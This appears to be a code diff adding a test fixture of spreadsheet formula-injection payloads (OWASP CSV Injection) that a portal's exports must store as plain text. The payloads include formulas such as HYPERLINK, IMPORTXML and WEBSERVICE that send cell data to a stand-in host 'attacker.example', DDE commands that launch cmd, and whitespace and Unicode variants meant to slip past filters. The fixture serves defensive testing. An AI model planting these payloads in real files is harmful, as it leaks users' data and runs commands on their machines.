@@ -160,3 +160,38 @@ export function xlsxEntries(rows: readonly (readonly string[])[]): ZipEntry[] {
     },
   ];
 }
+
+/**
+ * Cells a spreadsheet program could run as formulas or DDE commands (OWASP "CSV Injection" and
+ * its published payloads): every file the portal writes must hold them as text.
+ */
+export const FORMULA_CELLS: readonly string[] = [
+  '=1+1',
+  '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
+  '=WEBSERVICE("http://attacker.example/")',
+  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+  '+1+1',
+  '-1+1',
+  '@A1',
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n=1+1',
+  ' =1+1',
+  '\u3000=1+1',
+  '\uFF1D1+1',
+  '\uFF0B1+1',
+  '\uFF0D1+1',
+  '\uFF20SUM(A1)',
+  '=1+1,"quoted, with a comma"',
+  "'=1+1",
+];
